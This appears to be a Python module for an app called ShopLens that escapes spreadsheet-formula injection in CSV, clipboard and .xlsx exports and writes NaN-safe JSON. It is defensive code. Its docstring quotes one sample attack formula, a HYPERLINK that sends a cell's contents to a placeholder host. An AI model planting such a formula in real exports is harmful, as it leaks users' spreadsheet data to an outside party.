"""Every table ShopLens writes for another program goes through here: CSV, .xlsx, the clipboard.

Why one module: shop data is written by strangers (a customer may call themselves
`=HYPERLINK("http://x.example/?leak="&A1, "Click")`, a product name may start with `@` or a
tab). A spreadsheet opening our export must show that text, never run it. Every export path
(the reorder table, the Excel report, audience lists, table Copy) calls the same two rules:

- CSV and clipboard text: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
  return gets a leading apostrophe (the usual escape, OWASP "CSV injection"); spreadsheets
  then show the text as it is. Numbers are numbers and are left alone: only text is escaped,
  so a refund of -5.00 stays a number.
- .xlsx: every data string is written as a string cell (openpyxl would otherwise store a text
  starting with `=` as a live formula); no apostrophe is needed there, the cell type says it.
  Characters a workbook cannot hold (control characters) are dropped rather than aborting.

API (small on purpose):
    safe_text(value)              one cell for CSV / clipboard
    safe_frame(frame)             a copy of a frame with every text cell escaped (for CSV)
    write_rows(sheet, header, rows)  fill an openpyxl worksheet, strings as strings
    export_table(frame, path)     write .csv (UTF-8 with BOM) or .xlsx by the path's suffix
    to_json(value, indent)        JSON that is always valid (no NaN / Infinity tokens)
"""

from __future__ import annotations

import json
import logging
import math
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

log = logging.getLogger(__name__)

#: First characters a spreadsheet takes as the start of a formula (or that Excel strips before
#: looking for one: tab and carriage return).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

# openpyxl refuses these (XML 1.0 cannot hold them); a name with one must not abort an export.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_text(value: Any) -> Any:
    """One cell as it may go into a CSV file or onto the clipboard.

    Text starting with one of FORMULA_STARTS gets a leading apostrophe; anything that is not
    text (numbers, dates, None) is returned unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells (and column names) are escaped with `safe_text`."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(safe_text, na_action="ignore")
    out.columns = [safe_text(str(c)) for c in out.columns]
    return out


def _xlsx_value(value: Any) -> Any:
    """A Python value openpyxl writes as data: NaN/NaT as empty, numpy scalars as Python ones."""
    if value is None or value is pd.NaT:
        return None
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float) and not math.isfinite(value):
        return None  # a workbook has no NaN or infinity: an empty cell says "no value"
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if isinstance(value, bool | int | float | datetime | date):
        return value
    if isinstance(value, str):
        return _ILLEGAL_XML.sub("", value)
    return _ILLEGAL_XML.sub("", str(value))


def write_rows(sheet: Any, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    """Append a header and rows to an openpyxl worksheet, every string as a string cell.

    `sheet` is an openpyxl Worksheet (or a write-only one); the Excel report calls this for its
    data sheets so no customer name ever becomes a formula there either.
    """
    from openpyxl.cell import WriteOnlyCell

    def cells(values: Sequence[Any]) -> list[Any]:
        out = []
        for raw in values:
            value = _xlsx_value(raw)
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl made "=..." a formula: it is text
            out.append(cell)
        return out

    sheet.append(cells([str(h) for h in header]))
    for row in rows:
        sheet.append(cells(row))


def export_table(frame: pd.DataFrame, path: Path, sheet_name: str = "ShopLens") -> Path:
    """Write a table as CSV (UTF-8 with BOM, so Excel shows Chinese names) or .xlsx, chosen
    by the suffix of `path`, with every text cell safe to open (see the module docstring)."""
    path = Path(path)
    if path.suffix.lower() == ".xlsx":
        from openpyxl import Workbook

        book = Workbook(write_only=True)
        sheet = book.create_sheet(sheet_name[:31])
        columns = [frame[c].to_numpy(dtype=object) for c in frame.columns]
        write_rows(sheet, list(frame.columns), zip(*columns, strict=True))
        book.save(path)
    else:
        # CRLF line ends (RFC 4180): the csv writer then quotes any cell holding a CR or LF, so
        # a name with a stray carriage return cannot split its row in two.
        safe_frame(frame).to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    log.info("exported %d rows to %s", len(frame), path.name)
    return path


def _finite(value: Any) -> Any:
    if isinstance(value, float) and not math.isfinite(value):
        return None
    if isinstance(value, dict):
        return {k: _finite(v) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [_finite(v) for v in value]
    return value


def to_json(value: Any, indent: int | None = None) -> str:
    """JSON text other programs can always parse: NaN and infinities (which Python's json
    writes as the invalid tokens NaN / Infinity) become null; dates and the like become text."""

    def other(obj: Any) -> Any:
        if isinstance(obj, np.generic):
            return _finite(obj.item())
        return str(obj)

    return json.dumps(
        _finite(value), ensure_ascii=False, indent=indent, default=other, allow_nan=False
    )
